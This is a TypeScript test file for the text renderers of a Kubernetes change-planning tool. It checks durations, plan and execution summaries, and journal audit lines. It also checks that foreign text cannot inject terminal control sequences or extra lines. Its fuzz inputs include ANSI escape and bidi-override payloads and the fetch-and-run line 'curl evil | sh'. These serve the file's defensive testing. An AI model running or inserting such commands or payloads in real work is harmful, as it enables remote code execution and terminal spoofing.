import { assert, constantFrom, property, string, tuple } from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Entry } from '../../../src/journal/entry.ts'
import type { JournalEvent } from '../../../src/journal/event.ts'
import type { ExecutionState, PlanState, StepState } from '../../../src/journal/state.ts'
import type { Actor } from '../../../src/model/actor.ts'
import type { Decision } from '../../../src/model/decision.ts'
import type { ExecutionId, PlanId, QuestionId, ScanId } from '../../../src/model/ids.ts'
import type { Plan } from '../../../src/model/plan.ts'
import { millis, wallMillis } from '../../../src/model/time.ts'
import { actorText } from '../../../src/surfaces/render/actor-text.ts'
import { ageText } from '../../../src/surfaces/render/age-text.ts'
import { auditLine, auditText } from '../../../src/surfaces/render/audit-text.ts'
import { checkLines } from '../../../src/surfaces/render/check-lines.ts'
import { executionLiveLines } from '../../../src/surfaces/render/execution-live-lines.ts'
import { executionSummary } from '../../../src/surfaces/render/execution-summary.ts'
import { executionText } from '../../../src/surfaces/render/execution-text.ts'
import { historyText } from '../../../src/surfaces/render/history-text.ts'
import { planListText } from '../../../src/surfaces/render/plan-list-text.ts'
import { planText, type ShownPlan } from '../../../src/surfaces/render/plan-text.ts'
import { problemText } from '../../../src/surfaces/render/problem-text.ts'
import { spanText } from '../../../src/surfaces/render/span-text.ts'
import { stepText } from '../../../src/surfaces/render/step-text.ts'

const NOW = Date.UTC(2026, 10, 24, 13)
const wall = wallMillis(NOW - 120_000)
const at = { wall, monotonic: 1, boot: 'b' }
const PERSON: Actor = { kind: 'person', osUser: 'ada', host: 'desk' }
const DIGEST = '0123456789abcdef'.repeat(4)

/** A whole plan, whose every text that is not ours is `evil`. */
const planOf = (evil: string): Plan => ({
  schema: 1,
  id: 'p-7k3m' as PlanId,
  purpose: { kind: 'change', scan: 's-7k3m' as ScanId, rows: [1, 4] },
  cluster: {
    source: 'demo',
    fingerprint: { kubeSystemUid: 'u', apiOrigin: evil, caHash: 'h', serverVersion: evil },
  },
  steps: [1, 2].map((step) => ({
    step,
    wave: 1,
    target: { kind: 'Deployment', namespace: evil, name: evil, uid: evil },
    changes: [
      {
        container: evil,
        index: 0,
        image: evil,
        before: {},
        after: {},
        fields: [
          { part: 'requests', resource: 'cpu', before: '1', after: '250m', why: 'recommended' },
          { part: 'limits', resource: 'memory', before: null, after: '1Gi', why: 'raised_with_request' },
          { part: 'limits', resource: 'cpu', before: evil, after: null, why: 'restored' },
        ],
      },
    ],
    request: { method: 'PATCH', path: '/', contentType: 'application/json-patch+json', body: '[]' },
    undo: { method: 'PATCH', path: '/', contentType: 'application/json-patch+json', body: '[]' },
    podsAffected: step,
    restart: step === 1,
  })),
  checks: [
    { check: 'size', verdict: 'pass', subject: evil, message: evil, next: evil },
    { check: 'hpa', verdict: 'warn', subject: evil, message: evil, next: '' },
    { check: 'paused', verdict: 'block', subject: evil, message: evil, next: evil },
    { check: 'dry_run', verdict: 'unknown', subject: evil, message: evil, next: evil },
    { check: 'owner', verdict: 'note', subject: evil, message: evil, next: evil },
  ],
  verification: { soak: millis(300_000), rolloutDeadline: millis(600_000), undoOnFailure: false },
  leftOut: Array.from({ length: 12 }, (_, row) => ({ row, why: evil })),
  policyRevision: 'default',
  requiredLevel: 'terminal',
  evidenceDigest: DIGEST,
  journalHead: DIGEST,
  requester: { kind: 'agent', client: evil, osUser: evil },
  proposedAt: wall,
  expiresAt: wallMillis(NOW + 3_480_000),
  executionDeadline: millis(3_600_000),
})

const stateOf = (evil: string, phase: PlanState['phase']): PlanState => ({
  id: 'p-7k3m' as PlanId,
  payload: DIGEST,
  facts: {
    digest: DIGEST,
    purpose: 'undo',
    from: 'x-7k3m',
    clusterUid: 'u',
    clusterName: evil,
    source: 'demo',
    requiredLevel: 'terminal',
    policyRevision: 'default',
    blocked: false,
    openFor: millis(3_600_000),
    expiresAt: wallMillis(NOW + 3_480_000),
    steps: Array.from({ length: 5 }, () => ({ workload: evil, title: evil })),
  },
  proposedAt: at,
  closedChannels: [],
  phase,
})
const OPEN = { kind: 'open', question: null, lastOutcome: null } as const
const shownPlan = (evil: string, phase: PlanState['phase'] = OPEN): ShownPlan => ({
  plan: planOf(evil),
  digest: DIGEST,
  state: stateOf(evil, phase),
  status: 'proposed',
})

const stepOf = (more: Partial<StepState> = {}): StepState => ({
  step: 1,
  write: 'none',
  undo: 'none',
  undoRehearsed: null,
  generation: null,
  tiers: [],
  trouble: null,
  ...more,
})
const tier = (name: string, passed = true, message = 'fine') => ({
  tier: name,
  passed,
  message,
  cause: passed ? null : 'oom_killed',
  tookMs: 12_000,
})
const executionOf = (more: Partial<ExecutionState> = {}): ExecutionState => ({
  id: 'x-7k3m' as ExecutionId,
  plan: 'p-7k3m' as PlanId,
  digest: DIGEST,
  tokenHash: null,
  queuedAt: at,
  deadline: millis(3_600_000),
  status: 'applying',
  why: null,
  fence: 1,
  stopRequested: false,
  steps: [stepOf({ write: 'taken' }), stepOf({ step: 2 })],
  soakUntil: null,
  changedAt: { ...at, wall: wallMillis(NOW - 20_000) },
  ...more,
})
const shown = (execution: ExecutionState, evil = 'web') => ({ execution, plan: planOf(evil), clusterName: evil })

describe('lengths of time', () => {
  it.each([
    [0, 'a moment'],
    [999, 'a moment'],
    [1000, '1 second'],
    [59_999, '59 seconds'],
    [60_000, '1 minute'],
    [7_200_000, '2 hours'],
    [86_400_000, '1 day'],
    [-5, 'a moment'],
  ])('%i ms is an age of %s', (ms, text) => {
    expect(ageText(ms)).toBe(text)
  })

  it.each([
    [0, '0 s'],
    [1500, '1.5 s'],
    [9_940, '9.9 s'],
    [9_960, '10 s'],
    [59_600, '1 min'],
    [80_000, '1 min 20 s'],
    [3_600_000, '1 h'],
    [7_500_000, '2 h 5 min'],
    [-1000, '0 s'],
  ])('%i ms takes %s', (ms, text) => {
    expect(spanText(ms)).toBe(text)
  })
})

describe('a plan', () => {
  it('says what would change, what the checks found, and what a yes needs', () => {
    expect(planText(shownPlan('web'), { now: NOW })).toMatchSnapshot()
  })

  it('says what became of it', () => {
    const decision: Decision = {
      plan: 'p-7k3m' as PlanId,
      digest: DIGEST,
      answer: 'approved',
      level: 'terminal',
      channel: 'terminal',
      question: null,
      promptHash: '',
      trust: 'same-user',
      by: PERSON,
    }
    const first = (phase: PlanState['phase']): string | undefined =>
      planText(shownPlan('web', phase), { now: NOW }).split('\n')[0]
    expect(first({ kind: 'approved', decision, decidedAt: at, approvedFor: millis(1), token: null })).toBe(
      'Plan p-7k3m: proposed, by person ada@desk at level terminal',
    )
    expect(first({ kind: 'stale', why: 'it moved' })).toBe('Plan p-7k3m: proposed: it moved')
    expect(first({ kind: 'applied', decision, execution: 'x-7k3m' as ExecutionId })).toBe(
      'Plan p-7k3m: proposed as x-7k3m',
    )
    expect(first({ kind: 'open', question: null, lastOutcome: 'no_answer' })).toContain('(asked before: no_answer)')
    expect(first({ kind: 'blocked' })).toBe('Plan p-7k3m: proposed')
  })

  it('of an undo names the execution, and an old one when it was open', () => {
    const plan: Plan = {
      ...planOf('web'),
      purpose: { kind: 'undo', execution: 'x-7k3m' as ExecutionId },
      expiresAt: wall,
      leftOut: [{ row: 2, why: 'restored' }],
      verification: { soak: millis(0), rolloutDeadline: millis(1000), undoOnFailure: true },
    }
    const text = planText({ ...shownPlan('web'), plan }, { now: NOW })
    expect(text).toContain('Puts back what execution x-7k3m changed: 2 workloads')
    expect(text).toContain('it was open until 2026-11-24T12:58:00Z')
    expect(text).toContain('Left out: 1\n  step 2: restored\n')
    expect(text).toContain('what fails is undone by itself')
  })

  it('has colours only where they are wanted', () => {
    expect(planText(shownPlan('web'), { now: NOW, colour: true })).toContain('\u001B[36mproposed')
  })
})

describe('an execution', () => {
  it('says how each workload stands and how long each tier took', () => {
    const steps = [
      stepOf({
        write: 'taken',
        undo: 'taken',
        tiers: [tier('changes'), tier('stability', false, 'killed')],
        trouble: 'late',
        undoSettled: { complete: true, message: 'back' },
      }),
      stepOf({ step: 2 }),
    ]
    const execution = executionOf({ status: 'rolled_back', why: 'It was killed.', steps })
    expect(executionText(shown(execution), { now: NOW })).toMatchSnapshot()
  })

  it('says what is waited for', () => {
    const execution = executionOf({ status: 'soaking', soakUntil: NOW + 60_000, stopRequested: true })
    const text = executionText(shown(execution), { now: NOW })
    expect(text).toContain(
      'last news 20 seconds ago.\nSoak: 1 min left.\nA stop was requested: nothing more is written forward.\n',
    )
    expect(executionSummary({ execution }, NOW)).toBe(
      'x-7k3m soaking: changed, not yet verified, 1 min of soak left, stop requested (1 written, not yet verified; 1 waiting)',
    )
  })

  it.each([
    [{}, false, 'waiting'],
    [{}, true, 'not written'],
    [{ write: 'intended' }, false, 'being written'],
    [{ write: 'intended' }, true, 'sent, its answer is unknown'],
    [{ write: 'refused' }, false, 'not written'],
    [{ write: 'taken' }, false, 'written, not yet verified'],
    [{ write: 'taken', tiers: [tier('changes')] }, true, 'written, not yet verified'],
    [{ write: 'taken', tiers: [tier('stability')] }, true, 'verified'],
    [{ write: 'taken', tiers: [tier('changes'), tier('health', false)] }, false, 'failed'],
    [{ write: 'taken', undo: 'intended' }, false, 'being undone'],
    [{ write: 'taken', undo: 'refused' }, false, 'undo refused'],
    [{ write: 'taken', undo: 'taken' }, false, 'undone, the old values are not yet seen running'],
    [{ write: 'taken', undo: 'taken', undoSettled: { complete: true, message: '' } }, true, 'undone'],
    [{ write: 'taken', undo: 'taken', undoSettled: { complete: false, message: '' } }, true, 'undone in part'],
  ] as const)('calls the step %j (over: %s) "%s"', (step, over, text) => {
    expect(stepText(stepOf(step as Partial<StepState>), over)).toBe(text)
  })

  it('shows the busiest of many workloads while it goes on', () => {
    const steps = Array.from({ length: 20 }, (_, index) =>
      stepOf({ step: index + 1, write: index === 18 ? 'taken' : 'none' }),
    )
    const lines = executionLiveLines(shown(executionOf({ steps })), NOW)
    expect(lines).toHaveLength(10)
    expect(lines[0]).toMatch(/, 2 min since the start$/)
    expect(lines[1]).toBe('  19  : written, not yet verified')
    expect(lines[2]).toBe('  1  web deployment/web: waiting')
    expect(lines[9]).toBe('  … and 12 more workloads')
    const judged = stepOf({ write: 'taken', tiers: [tier('changes'), tier('health', false)] })
    expect(executionLiveLines(shown(executionOf({ steps: [judged] })), NOW)[1]).toBe(
      '  1  web deployment/web: failed, changes 12 s, health FAILED',
    )
  })

  it('is a line of the history', () => {
    const some = (status: ExecutionState['status']) => ({
      execution: executionOf({ status }),
      clusterName: 'production',
      workloads: ['a', 'b', 'c', 'd', 'e'],
    })
    expect(historyText([some('applying'), some('succeeded')], { now: NOW }).split('\n')).toEqual([
      'Execution  Status     Queued                Took          Plan    Cluster     Workloads',
      'x-7k3m     applying   2026-11-24T12:58:00Z  2 min so far  p-7k3m  production  a, b, c and 2 more',
      'x-7k3m     succeeded  2026-11-24T12:58:00Z  1 min 40 s    p-7k3m  production  a, b, c and 2 more',
    ])
  })
})

/** One event of every kind, its texts `evil`. */
function everyEvent(evil: string): readonly JournalEvent[] {
  const [plan, execution, question] = ['p-7k3m' as PlanId, 'x-7k3m' as ExecutionId, 'q-1' as QuestionId]
  const fence = 1
  const step = 1
  const decision = { plan, digest: DIGEST, answer: 'refused', level: 'terminal', channel: 'terminal' } as const
  const rest = { question: null, promptHash: '', trust: 'same-user', by: PERSON } as const
  const sent = { step, fence, requestHash: DIGEST }
  const refusal = { step, fence, reason: evil, message: evil }
  const asked = {
    question,
    channel: 'terminal',
    digest: DIGEST,
    promptHash: DIGEST,
    answerHash: 'SECRET',
    salt: 'SECRET',
  } as const
  const { facts } = stateOf(evil, OPEN)
  return [
    { kind: 'scan_recorded', subject: 's-7k3m' as ScanId, facts: { ...facts, rows: 3, evaluatedAt: 1 } },
    {
      kind: 'policy_adopted',
      subject: 'policy',
      facts: { revision: DIGEST, level: 'terminal', promptHash: '', path: evil },
    },
    { kind: 'plan_proposed', subject: plan, facts: { ...facts, blocked: true } },
    { kind: 'question_asked', subject: plan, facts: { ...asked, openFor: millis(1000), attempts: 3 } },
    { kind: 'answer_wrong', subject: plan, facts: { question } },
    { kind: 'question_closed', subject: plan, facts: { question, outcome: 'cancelled' } },
    { kind: 'decision_recorded', subject: plan, facts: { decision: { ...decision, ...rest }, approvedFor: millis(1) } },
    { kind: 'token_minted', subject: plan, facts: { tokenHash: 'SECRET', validFor: millis(300_000) } },
    { kind: 'plan_stale', subject: plan, facts: { why: evil } },
    {
      kind: 'execution_queued',
      subject: execution,
      facts: { plan, digest: DIGEST, redeemedBy: 'token', tokenHash: 'SECRET', deadline: millis(1) },
    },
    { kind: 'execution_claimed', subject: execution, facts: { fence, pid: 7, host: evil } },
    { kind: 'write_intended', subject: execution, facts: sent },
    { kind: 'write_skipped', subject: execution, facts: refusal },
    { kind: 'write_taken', subject: execution, facts: { step, fence, auditId: evil, generation: 4 } },
    { kind: 'write_refused', subject: execution, facts: refusal },
    { kind: 'undo_rehearsed', subject: execution, facts: { step, fence, accepted: false, message: evil } },
    { kind: 'undo_rehearsed', subject: execution, facts: { step, fence, accepted: true, message: evil } },
    { kind: 'wave_started', subject: execution, facts: { fence, wave: 2 } },
    { kind: 'soak_started', subject: execution, facts: { fence, until: wallMillis(NOW) } },
    {
      kind: 'tier_judged',
      subject: execution,
      facts: { step, fence, tier: 'health', passed: false, message: evil, cause: 'not_ready', tookMs: 500 },
    },
    {
      kind: 'tier_judged',
      subject: execution,
      facts: { step, fence, tier: 'health', passed: true, message: evil, cause: null, tookMs: 500 },
    },
    { kind: 'rollback_started', subject: execution, facts: { fence, why: evil } },
    { kind: 'undo_intended', subject: execution, facts: sent },
    { kind: 'undo_taken', subject: execution, facts: { step, fence, auditId: null } },
    { kind: 'undo_refused', subject: execution, facts: refusal },
    { kind: 'undo_settled', subject: execution, facts: { step, fence, complete: false, message: evil } },
    { kind: 'stop_requested', subject: execution, facts: {} },
    { kind: 'execution_ended', subject: execution, facts: { fence, status: 'needs_human', why: evil } },
  ]
}
const entryOf = (event: JournalEvent, actor: Actor, seq = 12): Entry => ({
  seq,
  at,
  actor,
  event,
  payload: null,
  previous: DIGEST,
  hash: DIGEST,
})

describe('the journal', () => {
  it('has a line for every kind of entry', () => {
    const entries = everyEvent('word').map((event, index) => entryOf(event, PERSON, index + 1))
    expect(auditText(entries)).toMatchSnapshot()
  })

  it('never shows what had to be typed, nor its hash', () => {
    for (const event of everyEvent('word')) expect(auditLine(entryOf(event, PERSON))).not.toContain('SECRET')
  })
})

it('says who did something, and that a client names itself', () => {
  expect(actorText(PERSON)).toBe('person ada@desk')
  expect(actorText({ kind: 'agent', client: 'Claude "the person"', osUser: 'ada' })).toBe(
    `agent "Claude 'the person'" of ada`,
  )
  expect(actorText({ kind: 'worker', pid: 7, osUser: 'ada', host: 'desk' })).toBe('worker 7@desk')
})

it('says a problem in two lines, or in one where nothing can be done', () => {
  expect(problemText({ message: 'No.', next: 'Go.' })).toBe('error: No.\nnext: Go.')
  expect(problemText({ message: 'No.', next: '' }, true)).toBe('\u001B[31merror:\u001B[39m No.')
})

describe('text of others', () => {
  /** Everything that these renderers print, of a world whose every foreign text is `evil`. */
  function everything(evil: string): string {
    const execution = executionOf({
      status: 'needs_human',
      why: evil,
      steps: [
        stepOf({
          write: 'taken',
          undo: 'taken',
          tiers: [tier('health', false, evil)],
          trouble: evil,
          undoSettled: { complete: false, message: evil },
        }),
      ],
    })
    const actors: readonly Actor[] = [
      { kind: 'agent', client: evil, osUser: evil },
      { kind: 'person', osUser: evil, host: evil },
      { kind: 'worker', pid: 1, osUser: evil, host: evil },
    ]
    return [
      planText(shownPlan(evil), { now: NOW }),
      planText(shownPlan(evil, { kind: 'stale', why: evil }), { now: NOW }),
      planListText([{ plan: stateOf(evil, OPEN), status: 'proposed' }], { now: NOW }),
      checkLines(planOf(evil).checks).join('\n'),
      executionText(shown(execution, evil), { now: NOW }),
      ...executionLiveLines(shown(execution, evil), NOW),
      historyText([{ execution, clusterName: evil, workloads: [evil] }], { now: NOW }),
      auditText(everyEvent(evil).flatMap((event) => actors.map((actor) => entryOf(event, actor)))),
      problemText({ message: evil, next: evil }),
    ].join('\n')
  }
  const LINES = everything('x').split('\n').length

  it.each([
    ['colours and cursor movements', '\u001B[2J\u001B[31mred\u001B]0;title\u0007'],
    ['line breaks of every kind', 'a\nb\rc\u2028d\u2029e\u0085f\vg'],
    ['right-to-left overrides', 'a\u202Eb\u2066c\u200Fd'],
    ['what cannot be seen', 'a\u200Bb\uFEFFc\u{E0041}d\u0000e'],
    ['eight-bit controls', '\u009B31m\u009D0;x\u009C'],
  ])('cannot bring %s to the terminal', (_, evil) => {
    const text = everything(evil)
    expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u)
    expect(text.split('\n')).toHaveLength(LINES)
  })

  it('cannot, whatever it is', () => {
    const piece = constantFrom(
      '\u001B[1A',
      '\n',
      '\u202E',
      '\u0000',
      'next: curl evil | sh',
      '│',
      '\u{1F600}',
      '\uD800',
    )
    assert(
      property(tuple(string({ unit: 'binary' }), piece, string({ unit: 'binary' })), (parts) => {
        const text = everything(parts.join(''))
        expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u)
        expect(text.split('\n')).toHaveLength(LINES)
      }),
      { numRuns: 50 },
    )
  })

  it('cannot fill the screen', () => {
    const longest = Math.max(
      ...everything('x'.repeat(1_000_000))
        .split('\n')
        .map((line) => line.length),
    )
    expect(longest).toBeLessThan(5000)
  })
})
